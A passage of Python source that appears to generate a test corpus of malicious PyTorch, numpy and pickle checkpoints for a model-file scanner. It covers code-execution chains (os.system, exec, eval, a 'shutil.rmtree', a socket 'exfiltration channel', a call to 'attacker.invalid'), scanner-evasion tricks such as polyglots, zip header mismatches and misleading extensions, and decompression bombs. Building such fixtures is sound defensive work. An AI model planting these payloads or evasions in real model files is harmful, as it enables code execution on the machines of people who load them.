           call(glob("commands", "getoutput"), u(TOUCH)), ["subprocess.getoutput"])
    inner = pkl(os_system())
    zipped("py2_cpickle_loads.pt", "Python 2 name cPickle.loads (maps to pickle.loads) of an embedded pickle",
           call(glob("cPickle", "loads"), py_bytes(inner)), ["pickle.loads"])
    zipped("py2_copy_reg_reconstructor.pt",
           "Python 2 name copy_reg._reconstructor(Popen, Popen, args) runs Popen.__init__",
           call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"),
                lst(u("touch"), u(MARKER))), ["copyreg._reconstructor", "subprocess.Popen"])

    # Nested loaders.
    zipped("nested_pickle_loads.pt", "pickle.loads of an embedded malicious pickle (protocol 3 bytes)",
           call(glob("pickle", "loads"), binbytes(inner)), ["pickle.loads"], 3)
    zipped("nested__pickle_loads.pt", "_pickle.loads (the C unpickler) of an embedded malicious pickle",
           call(glob("_pickle", "loads"), binbytes(inner)), ["_pickle.loads"], 3)
    inner_npy = npy("|O", (1,), object_array_pickle(os_system()))
    zipped("nested_numpy_load.pt",
           "numpy.load(BytesIO(npy), None, True): allow_pickle=True on an object array with a payload",
           call(glob("numpy", "load"), call(glob("io", "BytesIO"), binbytes(inner_npy)), NONE, NEWTRUE),
           ["numpy.load"], 3)
    inner_zip = tensor_checkpoint(MALICIOUS_PKL)
    zipped("nested_torch_load.pt",
           "functools.partial(torch.load, weights_only=False) (built with NEWOBJ_EX) called on a "
           "BytesIO of an embedded malicious checkpoint",
           glob("functools", "partial") + tup(glob("torch", "load")) + dct((su("weights_only"), NEWFALSE))
           + NEWOBJ_EX + tup(call(glob("io", "BytesIO"), binbytes(inner_zip))) + REDUCE,
           ["functools.partial", "torch.load"], 4)

    # Indirection through getattr, importlib, runpy, operator.
    zipped("getattr_import_chain.pt", "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
           call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), u("os")), u("system")),
                u(TOUCH)), ["builtins.getattr", "builtins.__import__"])
    zipped("importlib_attrgetter.pt",
           "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
           call(call(call(glob("operator", "attrgetter"), u("system")),
                     call(glob("importlib", "import_module"), u("os"))), u(TOUCH)),
           ["operator.attrgetter", "importlib.import_module"])
    zipped("runpy_run_code.pt", "runpy._run_code(source, {}) executes a source string",
           call(glob("runpy", "_run_code"), u(PY_MARKER), EMPTY_DICT), ["runpy._run_code"])
    zipped("builtins_compile_exec.pt", "builtins.exec(builtins.compile(source, '<ckpt>', 'exec'))",
           call(glob("builtins", "exec"), call(glob("builtins", "compile"), u(PY_MARKER), u("<ckpt>"), u("exec"))),
           ["builtins.exec", "builtins.compile"])
    zipped("builtins_open.pt", "builtins.open(marker, 'w') creates the marker directly",
           call(glob("builtins", "open"), u(MARKER), u("w")), ["builtins.open"])
    zipped("webbrowser_open.pt",
           "methodcaller('open', marker)(webbrowser.GenericBrowser('touch')), which runs `touch marker`, "
           "then webbrowser.open(url)",
           tup(call(call(glob("operator", "methodcaller"), u("open"), u(MARKER)),
                    call(glob("webbrowser", "GenericBrowser"), u("touch"))),
               call(glob("webbrowser", "open"), u("https://attacker.invalid/x"))),
           ["operator.methodcaller", "webbrowser.GenericBrowser", "webbrowser.open"])
    zipped("shutil_rmtree.pt", "shutil.rmtree(dir, True), then shutil.copyfile('/dev/null', marker)",
           tup(call(glob("shutil", "rmtree"), u("tensorplay_victim_dir"), NEWTRUE),
               call(glob("shutil", "copyfile"), u("/dev/null"), u(MARKER))),
           ["shutil.rmtree", "shutil.copyfile"])
    zipped("socket_create_connection.pt",
           "builtins.open(marker), then socket.create_connection(('127.0.0.1', 9), 1) (an exfiltration channel)",
           tup(call(glob("builtins", "open"), u(MARKER), u("w")),
               call(glob("socket", "create_connection"), tup(u("127.0.0.1"), i(9)), i(1))),
           ["builtins.open", "socket.create_connection"])


def scanner_evasion(c: Corpus) -> None:
    fam = "scanner_evasion"
    add = c.add

    add("tar_polyglot.tar", fam,
        "a valid tar archive whose first member's name is a pickle that runs os.system: pickle.load reads "
        "the file from its first byte, the name, and stops at its STOP (a load refuses tar checkpoints)",
        UNSUPPORTED, tar_archive([("cos\nsystem\n(S'" + TOUCH + "'\ntR.", b"weights")]), ["os.system"])
    add("tar_negative_size_storages.tar", fam,
        "a tar whose storages member has size -1: extractfile reads nothing of it, but extract, which "
        "torch's legacy loader uses for storages, copies copyfileobj's remainder (16383 bytes), the payload",
        UNSUPPORTED, tar_header(b"storages", b"-1\0") + MALICIOUS_PKL.ljust(16383, b"\0"), ["os.system"])
    add("safetensors_polyglot.bin", fam,
        "a valid safetensors file (header, offsets and all) that pickle also runs from byte 0: "
        "the header's length is a BINBYTES opcode that jumps into a NONE sled in the metadata, "
        "and the one tensor's bytes are the payload (a load refuses the global its first pickle names, as "
        "torch.load does: its legacy path unpickles before it checks the magic number)",
        UNSAFE, safetensors_polyglot(), ["os.system"])
    add("broken_opcode_after_payload.pt", fam,
        "the payload runs, then an invalid opcode 0xff breaks the stream (scanners that give up on "
        "a malformed pickle see nothing)",
        UNSAFE, tensor_checkpoint(proto(2) + os_system() + b"\xff" + STOP), ["os.system"])
    add("truncated_after_payload.pt", fam,
        "the payload runs, then a BINUNICODE declaring 4096 bytes is cut short and there is no STOP",
        UNSAFE, tensor_checkpoint(proto(2) + call(glob("subprocess", "call"), lst(u("touch"), u(MARKER)))
                                  + BINUNICODE + struct.pack("<I", 4096) + b"abc"), ["subprocess.call"])
    add("two_pickles_second_malicious.pt", fam,
        "data.pkl holds a benign state-dict pickle and, after its STOP, a second complete pickle "
        "with the payload",
        MALFORMED, tensor_checkpoint(BENIGN_PKL + MALICIOUS_PKL), ["os.system"])
    add("data_after_stop.pt", fam,
        "data.pkl's benign pickle is followed by stray opcodes (a payload without PROTO or STOP)",
        MALFORMED, tensor_checkpoint(BENIGN_PKL + os_system() + b"\x00" * 16), ["os.system"])
    add("raw_two_pickles.pkl", fam,
        "a raw (non-zip) stream: a benign dict pickle, then a malicious pickle; not a legacy "
        "checkpoint (no magic number)",
        MALFORMED, pkl(dct((u("epoch"), i(3)))) + MALICIOUS_PKL, ["os.system"])
    add("prefix_polyglot.pt", fam,
        "a benign pickle glued before a malicious torch zip: pickle scanners see a dict, zip tools "
        "(which find the end record) see the malicious data.pkl",
        MALFORMED, pkl(dct((u("epoch"), i(3)))) + tensor_checkpoint(MALICIOUS_PKL), ["os.system"])

    # Local header vs central directory.
    root = "archive"
    add("lfh_cd_name_mismatch.pt", fam,
        "the central directory calls the payload entry archive/data.pkl, its local header calls it "
        "archive/notes.txt (stream scanners skip a .txt)",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                    lfh_name=f"{root}/notes.txt")),
        ["os.system"])
    add("lfh_sizes_zero.pt", fam,
        "data.pkl's local header declares 0 bytes without the data-descriptor flag (stream readers "
        "see an empty entry), the central directory the real size",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                    lfh_sizes=(0, 0), lfh_crc=0)),
        ["os.system"])
    add("lfh_cd_method_mismatch.pt", fam,
        "data.pkl is stored; its local header says DEFLATE (stream scanners fail to inflate it), the "
        "central directory says stored",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                    lfh_method=8)),
        ["os.system"])
    add("cd_stored_sizes_differ.pt", fam,
        "data.pkl is stored, yet the central directory gives it an uncompressed size of 0 (readers "
        "that trust that size see an empty entry) and a compressed size covering the payload",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                    cd_sizes=(len(MALICIOUS_PKL), 0))),
        ["os.system"])
    add("overlapping_entries.pt", fam,
        "two central directory entries (data.pkl and extra.pkl) share one local header and payload",
        MALFORMED, _overlapping(), ["os.system"])
    add("duplicate_data_pkl.pt", fam,
        "two entries named archive/data.pkl: a benign one first, the malicious one second (torch's "
        "lookup may pick either)",
        MALFORMED, checkpoint(BENIGN_PKL, {"0": FLOATS4},
                              extra=[Entry(f"{root}/data.pkl", MALICIOUS_PKL)]), ["os.system"])
    add("duplicate_data_pkl_case.pt", fam,
        "archive/data.pkl (benign) and archive/DATA.PKL (malicious): torch's record lookup is "
        "case-insensitive, so which one it reads is unspecified",
        MALFORMED, checkpoint(BENIGN_PKL, {"0": FLOATS4},
                              extra=[Entry(f"{root}/DATA.PKL", MALICIOUS_PKL)]), ["os.system"])
    text_pkl = b"cposix\nsystem\n(" + text_string(TOUCH) + b"tR."
    check_pickle(text_pkl)
    add("data_pkl_in_capitals.pt", fam,
        "the only pickle is archive/DATA.PKL, written by protocol 0 (no 0x80 to sniff): torch's record "
        "lookup ignores case and runs it under weights_only=False; a scanner matching names exactly "
        "skips it", UNSAFE, checkpoint(text_pkl, {"0": FLOATS4}, pkl_entry=Entry(f"{root}/DATA.PKL", text_pkl)),
        ["posix.system"])
    add("encrypted_flag.pt", fam,
        "data.pkl (plain text) flagged as encrypted (bit 0): zipfile-based scanners refuse to read it",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                    flags=0x0001)), ["os.system"])
    add("odd_flag_bits.pt", fam,
        "data.pkl with general-purpose flag bits 1, 2, 5 (patched data) and 13 (masked headers) set: "
        "zipfile raises on bit 5, torch's reader on 5 and 13",
        MALFORMED, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                 flags=0x2026)), ["os.system"])
    add("wrong_crc.pt", fam,
        "data.pkl with a wrong CRC-32 in both headers: zipfile raises BadZipFile, torch never checks",
        UNSAFE, tensor_checkpoint(MALICIOUS_PKL, pkl_entry=Entry(f"{root}/data.pkl", MALICIOUS_PKL,
                                                                 crc=0xDEADBEEF)), ["os.system"])

    # Misleading extensions.
    add("model.safetensors", fam, "a malicious torch zip named .safetensors",
        UNSAFE, tensor_checkpoint(MALICIOUS_PKL), ["os.system"])
    add("config.json", fam, "a malicious torch zip named .json",
        UNSAFE, tensor_checkpoint(pkl(call(glob("builtins", "exec"), u(PY_MARKER)))), ["builtins.exec"])
    readme = b"cposix\nsystem\n(" + text_string(TOUCH) + b"tR."
    check_pickle(readme)
    add("readme.txt", fam,
        "a raw protocol 0 pickle (all printable) named .txt: neither a zip nor a legacy checkpoint "
        "(no magic number); a load refuses the global it names before it would check one",
        UNSAFE, readme, ["posix.system"])
    add("weights.npy", fam,
        "a raw protocol 2 pickle (not an .npy) named .npy: neither a zip nor a legacy checkpoint; a load "
        "refuses the global it names", UNSAFE, MALICIOUS_PKL, ["os.system"])

    # Nested archives.
    add("zip_in_zip.zip", fam, "a plain zip whose only member model.pt is a malicious torch zip",
        MALFORMED, zip_archive([Entry("model.pt", tensor_checkpoint(MALICIOUS_PKL), align=False)]),
        ["os.system"])
    add("zip_in_record.pt", fam,
        "a torch-style archive with version and byteorder but no data.pkl; its record "
        "archive/model.pt is a malicious torch zip",
        MALFORMED, checkpoint(b"", pkl_entry=Entry("archive/model.pt", tensor_checkpoint(MALICIOUS_PKL))),
        ["os.system"])
    add("torch_zip_in_tar.tar", fam, "a tar archive holding a malicious torch zip (archive.pt)",
        UNSUPPORTED, tar_archive([("archive.pt", tensor_checkpoint(MALICIOUS_PKL))]), ["os.system"])

    # Protocol 4 frames.
    body = os_system() + STOP
    frame = proto(4) + FRAME + struct.pack("<Q", len(body)) + body
    check_pickle(frame)
    add("frame_hides_payload.pt", fam,
        "protocol 4: the whole payload sits inside one FRAME (a disassembler that skips frames "
        "sees only PROTO and FRAME)",
        UNSAFE, tensor_checkpoint(frame), ["os.system"])
    add("frame_length_past_end.pt", fam,
        "protocol 4: a FRAME declaring 2**40 bytes, then the payload; the frame runs past the end",
        MALFORMED, tensor_checkpoint(proto(4) + FRAME + struct.pack("<Q", 1 << 40) + body), ["os.system"])

    # TorchScript-looking archive.
    add("torchscript_constants.pt", fam,
        "a TorchScript-shaped archive: benign data.pkl, code/, and constants.pkl carrying the payload",
        UNSUPPORTED, checkpoint(BENIGN_PKL, {"0": FLOATS4}, extra=[
            Entry("archive/constants.pkl", MALICIOUS_PKL),
            Entry("archive/code/__torch__.py", b"class Model(Module):\n  pass\n"),
        ]), ["os.system"])


def _overlapping() -> bytes:
    """A second central directory record pointing at data.pkl's local header (offset 0)."""
    twin = Entry("archive/extra.pkl", MALICIOUS_PKL, cd_offset=0)
    return checkpoint(MALICIOUS_PKL, {"0": FLOATS4}, extra=[twin])


def numpy_family(c: Corpus) -> None:
    fam = "numpy"
    arr = npy("|O", (1,), object_array_pickle(os_system()))
    c.add("object_array.npy", fam,
          "a real .npy (dtype |O) whose object-array pickle holds os.system(...) as its element",
          MALFORMED, arr, ["os.system"])
    c.add("object_array.npz", fam, "an .npz (plain zip) whose arr_0.npy is a malicious object array",
          MALFORMED, zip_archive([Entry("arr_0.npy", arr, align=False),
                                  Entry("arr_1.npy", npy("<f4", (4,), FLOATS4), align=False)]),
          ["os.system"])
    body = pkl(dct((u("weights"), object_array_pickle(os_system())[2:-1])), 3)
    c.add("numpy_object_array_in_checkpoint.pt", fam,
          "a torch zip whose data.pkl holds a numpy object array (_reconstruct + BUILD) with a payload element",
          UNSAFE, tensor_checkpoint(body), ["os.system"], wellformed=body)


def legacy_family(c: Corpus) -> None:
    fam = "legacy"
    main = pkl(state_dict(("weight", legacy_tensor())))
    keys = pkl(lst(u(LEGACY_KEY)))
    for part in (LEGACY_MAGIC, LEGACY_PROTOCOL, LEGACY_SYS_INFO, main, keys):
        check_pickle(part)
    add = c.add
    add("legacy_main_payload.pt", fam,
        "legacy format: magic number, protocol 1001 and sys_info pickles, then a malicious main pickle",
        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL + pkl(EMPTY_LIST),
        ["os.system"])
    add("legacy_sys_info_payload.pt", fam,
        "legacy format with the payload in the sys_info pickle (which torch reads and ignores)",
        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + pkl(call(glob("subprocess", "getoutput"), u(TOUCH)))
        + main + keys + legacy_storages(), ["subprocess.getoutput"])
    add("legacy_protocol_payload.pt", fam,
        "legacy format with the payload where the protocol number pickle belongs",
        UNSAFE, LEGACY_MAGIC + pkl(call(glob("builtins", "eval"), u(f"__import__('os').system({TOUCH!r})")))
        + LEGACY_SYS_INFO + main + keys + legacy_storages(), ["builtins.eval"])
    add("legacy_key_list_payload.pt", fam,
        "legacy format: valid main pickle with a tensor, then a malicious storage-key-list pickle",
        UNSAFE, LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + main + MALICIOUS_PKL + legacy_storages(),
        ["os.system"])
    # A complex128 tensor (16-byte elements, which torch loads with aligned vector
    # instructions) over a byte-storage view that starts 1 byte into its root.
    view = MARK + u("view") + i(1) + i(32) + TUPLE
    pid = MARK + u("storage") + glob("torch", "ByteStorage") + u(LEGACY_KEY) + u("cpu") + i(33) + view + TUPLE
    misaligned = (glob("torch._utils", "_rebuild_tensor_v3") + MARK + pid + BINPERSID + i(0) + tup(i(2)) + tup(i(1))
                  + NEWFALSE + ordered_dict() + glob("torch", "complex128") + TUPLE + REDUCE)
    add("legacy_view_misaligned.pt", fam,
        "legacy format: a complex128 tensor over a view starting 1 byte into a byte storage, where no "
        "placement of the storage can align it",
        MALFORMED, LEGACY_MAGIC + LEGACY_PROTOCOL + LEGACY_SYS_INFO + pkl(state_dict(("weight", misaligned)))
        + keys + struct.pack("<q", 33) + bytes(33))
    add("legacy_tar_polyglot.pt", fam,
        "a valid legacy stream that is also a tar: torch.load(weights_only=False) tries every file as a tar "
        "first and unpickles its storages member (os.system), never the stream; tensorplay.load would read "
        "the benign stream, so it refuses the polyglot",
        UNSAFE, legacy_tar_polyglot(MALICIOUS_PKL), ["os.system"])
    add("legacy_bad_magic_then_payload.pt", fam,
        "a legacy-looking stream whose magic number is wrong (off by one), followed by a malicious main pickle",
        MALFORMED, pkl(i(0x1950A86A20F9469CFC6D)) + LEGACY_PROTOCOL + LEGACY_SYS_INFO + MALICIOUS_PKL,
        ["os.system"])


def resource_family(c: Corpus) -> None:
    fam = "resource"
    add = c.add

    # Memo bombs: one list referenced over and over from nested tuples.
    levels, width = 10, 1000
    body = proto(2) + EMPTY_LIST + put(0) + POP
    for level in range(1, levels + 1):
        body += MARK + get(level - 1) * width + TUPLE + put(level) + (POP if level < levels else b"")
    add("memo_bomb_nested_tuples.pt", fam,
        f"{levels} levels of tuples each holding one memo entry {width} times (logical size "
        f"{width}**{levels}), then the stream ends without STOP",
        MALFORMED, tensor_checkpoint(body))

    levels, width = 4, 1_000_000
    segs = [(tensor_prefix_for_size(), 1), (EMPTY_LIST + put(0) + POP, 1)]
    for level in range(1, levels + 1):
        segs += [(MARK, 1), (get(level - 1), width), (TUPLE + put(level) + (POP if level < levels else b""), 1)]
    segs += [(tensor_suffix_for_size(), 1)]
    raw = b"".join(unit * n for unit, n in segs)
    check_pickle(raw)
    add("memo_bomb_millions.pt", fam,
        f"a DEFLATE-compressed data.pkl fetching memo entries {levels * width:,} times "
        f"({levels} nested tuples of {width:,}); the bomb is passed as a tensor's size "
        f"({width:,} dimensions)",
        LIMIT, tensor_checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
                                                          usize=len(raw), plain=raw)))

    levels, width = 10, 1000
    body = proto(2) + EMPTY_DICT + u("x") + put(0) + POP
    for level in range(1, levels + 1):
        body += MARK + get(level - 1) * width + TUPLE + put(level) + (POP if level < levels else b"")
    body += NONE + SETITEM + STOP
    add("memo_bomb_dict_key.pt", fam,
        f"a memo bomb (one str referenced {width}**{levels} times through {levels} nested tuples) used "
        "as a dict key: hashing it walks every logical item",
        LIMIT, checkpoint(body), wellformed=body)

    n = 1_000_000
    segs = [(proto(2) + EMPTY_DICT, 1), (MARK, n), (TUPLE, n), (NONE + SETITEM + STOP, 1)]
    raw = b"".join(unit * k for unit, k in segs)
    add("deep_tuple_dict_key.pt", fam,
        f"a {n:,}-deep nested tuple used as a dict key: hashing it recurses {n:,} levels in C",
        LIMIT, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
                                               usize=len(raw), plain=raw)))
    segs = [(proto(2) + EMPTY_DICT, 1), (EMPTY_LIST, n), (APPEND, n - 1), (NONE + SETITEM + STOP, 1)]
    raw = b"".join(unit * k for unit, k in segs)
    add("deep_nesting_lists.pt", fam,
        f"{n:,} nested lists (EMPTY_LIST then APPEND), used as a dict key (unhashable)",
        MALFORMED, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
                                                   usize=len(raw), plain=raw)))
    segs = [(proto(2), 1), (MARK, n), (TUPLE, n)]
    raw = b"".join(unit * k for unit, k in segs)
    add("deep_nesting_marks.pt", fam,
        f"{n:,} nested MARKs closed by {n:,} TUPLEs (a {n:,}-deep tuple), then no STOP",
        MALFORMED, checkpoint(raw, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
                                                   usize=len(raw), plain=raw)))

    add("long4_gigantic.pt", fam, "LONG4 declaring 2**31-1 bytes in a 30-byte pickle",
        MALFORMED, checkpoint(proto(2) + LONG4 + struct.pack("<i", 2**31 - 1) + b"\x01" * 16))
    add("binunicode8_gigantic.pt", fam, "BINUNICODE8 declaring 2**63-1 bytes",
        MALFORMED, checkpoint(proto(4) + BINUNICODE8 + struct.pack("<Q", 2**63 - 1) + b"abc" + STOP))
    add("binbytes8_gigantic.pt", fam, "BINBYTES8 declaring 2**40 bytes",
        MALFORMED, checkpoint(proto(4) + BINBYTES8 + struct.pack("<Q", 2**40) + b"abc" + STOP))
    add("bytearray8_gigantic.pt", fam, "protocol 5 BYTEARRAY8 declaring 2**64-1 bytes",
        MALFORMED, checkpoint(proto(5) + BYTEARRAY8 + struct.pack("<Q", 2**64 - 1) + b"abc" + STOP))
    body = pkl(call(glob("__builtin__", "bytearray"), i(10**12)))
    add("bytearray_1e12.pt", fam, "bytearray(10**12) through the allowlisted builtins.bytearray",
        LIMIT, checkpoint(body), wellformed=body)

    # DEFLATE bombs in storage records.
    bomb_units = 64 << 20
    segs = [(b"\x00", bomb_units)]
    add("zipbomb_record_past_declared.pt", fam,
        "data/0 declares 16 bytes (a 4-float storage) but its DEFLATE stream inflates to 64 MiB",
        MALFORMED, checkpoint(BENIGN_PKL, {"0": Entry("archive/data/0", deflate(segs), method=8, usize=16,
                                                      crc=zlib.crc32(bytes(16)))}))
    tiny = deflate([(b"\x00", 1024)])
    absurd = 1 << 62
    add("zipbomb_declared_absurd.pt", fam,
        "data/0 declares 2**62 bytes (ZIP64) for a storage of 2**60 floats; the stream holds 1 KiB: "
        "more than DEFLATE can produce from it, refused before anything is allocated",
        MALFORMED, checkpoint(pkl(tensor(storage_pid(numel=absurd // 4))),
                          {"0": Entry("archive/data/0", tiny, method=8, usize=absurd, crc=0)}))
    big = 60 << 30
    add("zipbomb_declared_60gib.pt", fam,
        "data/0 declares 60 GiB (ZIP64, matching its storage; under max_inflated_bytes) but its DEFLATE "
        "stream is a few bytes that inflate to 1 KiB: no stream that short can produce 60 GiB",
        MALFORMED, checkpoint(pkl(tensor(storage_pid(numel=big // 4))),
                              {"0": Entry("archive/data/0", tiny, method=8, usize=big, crc=0)}))
    small = deflate([(BENIGN_PKL, 1)])
    add("zipbomb_pkl_declared_1gib.pt", fam,
        "data.pkl is DEFLATE-compressed and declares just under 1 GiB; its stream inflates to 400 bytes",
        MALFORMED, tensor_checkpoint(BENIGN_PKL, pkl_entry=Entry("archive/data.pkl", small, method=8,
                                                                 usize=(1 << 30) - 64, crc=0)))

    segs = [(BENIGN_PKL, 1), (b"\x00", 8 << 20)]
    add("zipbomb_pkl_past_declared.pt", fam,
        "data.pkl is DEFLATE-compressed and declares its real size, but the stream goes on to inflate "
        "8 MiB more",
        MALFORMED, tensor_checkpoint(BENIGN_PKL, pkl_entry=Entry("archive/data.pkl", deflate(segs), method=8,
                                                                 usize=len(BENIGN_PKL), plain=BENIGN_PKL)))

    # Scanner amplification: one stored entry listed many times, nested four deep.
    def listed_n_times(payload: bytes, n: int) -> bytes:
        head = Entry("a", payload, align=False)
        copies = [Entry("a", b"", align=False, cd_sizes=(len(payload), len(payload)), cd_offset=0,
                        crc=zlib.crc32(payload)) for _ in range(n - 1)]
        return zip_archive([head, *copies])

    nested = BENIGN_PKL
    for _ in range(4):
        nested = listed_n_times(nested, 40)
    add("nested_overlapping_entries.zip", fam,
        "a zip whose directory lists one stored entry 40 times, that entry a zip built the same "
        "way, four levels deep: 2.5 million pickles to a scanner that follows every entry",
        MALFORMED, nested)

    # Zip structure.
    add("eocd_100m_entries.pt", fam,
        "a checkpoint whose ZIP64 end record claims 100,000,000 entries (the directory holds 4)",
        LIMIT, tensor_checkpoint(BENIGN_PKL, eocd_entries=100_000_000))
    add("four_bytes.pt", fam, "a 4-byte file: just a local header signature", MALFORMED, b"PK\x03\x04")
    full = tensor_checkpoint(MALICIOUS_PKL)
    cut = full.index(b"archive/byteorder") - 30
    add("truncated_zip.pt", fam,
        "a malicious checkpoint cut after its data.pkl entry: no central directory",
        MALFORMED, full[:cut], ["os.system"])


def tensor_prefix_for_size() -> bytes:
    """Everything of a 4-float tensor pickle up to (not including) its size tuple."""
    return proto(2) + glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage_pid() + i(0)


def tensor_suffix_for_size() -> bytes:
    return tup(i(1)) + NEWFALSE + ordered_dict() + TUPLE + REDUCE + STOP


def tensor_family(c: Corpus) -> None:
    fam = "tensor_metadata"

    def lie(file, description, body, storages=None):
        data = pkl(body)
        c.add(file, fam, description, MALFORMED,
              checkpoint(data, {"0": FLOATS4} if storages is None else storages), wellformed=data)

    lie("size_past_storage.pt", "size (5,) over a storage of 4 floats", tensor(size=(5,)))
    lie("stride_past_storage.pt", "size (2, 2), stride (3, 1) reaches element 4 of a 4-float storage",
        tensor(size=(2, 2), stride=(3, 1)))
    lie("offset_past_end.pt", "storage offset 10 in a 4-float storage", tensor(offset=10, size=(1,)))
    lie("negative_size.pt", "size (-1,)", tensor(size=(-1,)))
    lie("negative_stride.pt", "stride (-1,) for size (4,)", tensor(size=(4,), stride=(-1,)))
    lie("negative_offset.pt", "storage offset -1", tensor(offset=-1, size=(1,)))
    lie("size_product_overflow.pt",
        "size (2**32, 2**32, 16) with zero strides: the element count overflows 64 bits",
        tensor(size=(2**32, 2**32, 16), stride=(0, 0, 0)))
    lie("stride_overflow.pt", "stride 2**62 for size (4,): the extent overflows 64 bits",
        tensor(size=(4,), stride=(2**62,)))
    lie("size_stride_rank_mismatch.pt", "size (2, 2) with stride (1,)", tensor(size=(2, 2), stride=(1,)))
    lie("storage_larger_than_record.pt", "persistent id declares 1000 floats, data/0 holds 16 bytes",
        tensor(storage_pid(numel=1000)))
    lie("storage_smaller_than_record.pt", "persistent id declares 2 floats, data/0 holds 16 bytes",
        tensor(storage_pid(numel=2), size=(2,)))
    lie("persid_four_items.pt", "a storage persistent id with 4 items (no numel)",
        tensor(MARK + u("storage") + glob("torch", "FloatStorage") + u("0") + u("cpu") + TUPLE + BINPERSID))
    lie("persid_type_is_str.pt", "a storage persistent id whose storage type is the string 'FloatStorage'",
        tensor(storage_pid(stype=u("FloatStorage"))))
    lie("record_missing.pt", "the persistent id names key '0' but there is no data/0 record",
        tensor(), storages={})
    lie("key_path_traversal.pt", "storage key '../../../../etc/passwd': no such record",
        tensor(storage_pid(key="../../../../etc/passwd")))


# --------------------------------------------------------------------------------------
# compressed_wrapper. A loader reads none of these formats (a load refuses
# them as malformed; a tar is torch's refused legacy format), but a scanner must unwrap
# each the way Python's own modules do (gzip, bz2, lzma, zlib, tarfile, zipfile; zstd
# and 7z as their reference decoders do) and find the payload inside.

def raw_deflate(data: bytes) -> bytes:
    return deflate([(data, 1)])


def gzipped(data: bytes, **header) -> bytes:
    return wrappers.gzip_member(raw_deflate(data), data, **header)


def checkpoint_records(pickle_bytes: bytes) -> list[tuple[str, bytes]]:
    """A torch checkpoint's records as loose files, for archives that are not zips."""
    return [("archive/data.pkl", pickle_bytes), ("archive/byteorder", b"little"),
            ("archive/data/0", FLOATS4), ("archive/version", b"3\n")]


BENIGN_RAW = pkl(dct((u("epoch"), i(3))))


def compressed_family(c: Corpus) -> None:
    fam = "compressed_wrapper"
    add = c.add
    ckpt = tensor_checkpoint(MALICIOUS_PKL)

    add("pickle.pkl.gz", fam, "gzip (one member, DEFLATE) of a raw pickle calling os.system",
        MALFORMED, gzipped(MALICIOUS_PKL), ["os.system"])
    add("checkpoint.pt.gz", fam, "gzip of a torch zip checkpoint whose data.pkl calls os.system",
        MALFORMED, gzipped(ckpt), ["os.system"])
    add("gzipped_checkpoint.pt", fam,
        "a gzipped malicious torch checkpoint named .pt (FNAME field 'model.pt'): what it is comes from "
        "its content, not its name", MALFORMED, gzipped(ckpt, name=b"model.pt"), ["os.system"])
    add("gzip_header_fields.pkl.gz", fam,
        "gzip whose header has FEXTRA, FNAME and FCOMMENT fields before the stream (a reader that assumes "
        "the 10-byte minimal header inflates garbage)",
        MALFORMED, gzipped(MALICIOUS_PKL, extra=b"TP\x04\x00\x01\x02\x03\x04", name=b"weights.pkl",
                        comment=b"weights, epoch 3"), ["os.system"])
    add("gzip_two_members.pkl.gz", fam,
        "two gzip members, a benign pickle then one calling os.system: gzip.decompress joins every "
        "member; a reader that stops after the first sees only the benign one",
        MALFORMED, gzipped(BENIGN_RAW) + gzipped(MALICIOUS_PKL), ["os.system"])
    add("gzip_of_gzip.pkl.gz.gz", fam, "gzip of a gzip of a pickle calling os.system",
        MALFORMED, gzipped(gzipped(MALICIOUS_PKL)), ["os.system"])
    popen = pkl(call(glob("subprocess", "call"), lst(u("touch"), u(MARKER))))
    add("pickle.pkl.bz2", fam, "bzip2 of a raw pickle calling subprocess.call(['touch', marker])",
        MALFORMED, wrappers.bzip2(popen), ["subprocess.call"])
    add("bzip2_two_streams.pkl.bz2", fam,
        "two bzip2 streams, a benign pickle then one calling os.system: bz2.decompress joins them",
        MALFORMED, wrappers.bzip2(BENIGN_RAW) + wrappers.bzip2(MALICIOUS_PKL), ["os.system"])
    add("checkpoint.pt.xz", fam, "xz (one LZMA2 block, CRC32 check) of a malicious torch checkpoint",
        MALFORMED, wrappers.xz(ckpt), ["os.system"])
    add("pickle.pkl.lzma", fam,
        "LZMA-alone (lzma.FORMAT_ALONE) of a raw malicious pickle; the header's first byte 0x5D is also "
        "the pickle opcode EMPTY_LIST, so the file reads as a (broken) pickle too",
        MALFORMED, wrappers.lzma_alone(MALICIOUS_PKL), ["os.system"])
    add("checkpoint.pt.lzma", fam, "LZMA-alone of a malicious torch checkpoint",
        MALFORMED, wrappers.lzma_alone(ckpt), ["os.system"])
    exe = pkl(call(glob("builtins", "exec"), u(PY_MARKER)))
    add("classifier.joblib", fam,
        "a zlib stream (header 78 5E, what joblib.dump(..., compress='zlib') writes at its level 3) of a "
        "pickle calling builtins.exec", MALFORMED, wrappers.zlib_stream(raw_deflate(exe), exe), ["builtins.exec"])
    add("zlib_mark_header.pkl.z", fam,
        "a zlib stream whose header byte 0x28 (DEFLATE, 1 KiB window) is also the pickle opcode MARK",
        MALFORMED, wrappers.zlib_stream(raw_deflate(MALICIOUS_PKL), MALICIOUS_PKL, cmf=0x28), ["os.system"])
    add("checkpoint.pt.zst", fam, "a zstd frame (raw blocks) of a malicious torch checkpoint",
